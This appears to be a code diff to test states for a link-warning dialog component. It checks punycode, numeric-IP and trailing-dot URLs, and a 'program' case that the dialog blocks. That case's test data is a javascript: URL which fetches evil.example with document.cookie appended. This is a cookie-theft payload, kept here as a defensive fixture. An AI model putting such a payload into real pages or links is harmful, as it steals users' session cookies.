@@ -45,9 +45,12 @@ export const states: ElementStates<PorticoLinkPrompt> = {
         'button "Do not open"',
       ],
     },
-    encoded: asking('https://xn--mnchen-3ya.example/'),
-    number: asking('http://0x7f.1:8080/admin'),
-    dot: asking('https://bank.example./'),
+    // The sentences that `deceptive` does not have; no link has all of them.
+    signs: asking('https://xn--mnchen-3ya.example./', [
+      { id: 'encoded', value: 'münchen.example' },
+      { id: 'number', value: '[2001:db8::1]' },
+      { id: 'dot', value: '' },
+    ]),
     program: {
       ...asking('javascript:fetch("https://evil.example/"+document.cookie)'),
       tree: ['alertdialog "This link cannot be opened"', 'button "Close"'],
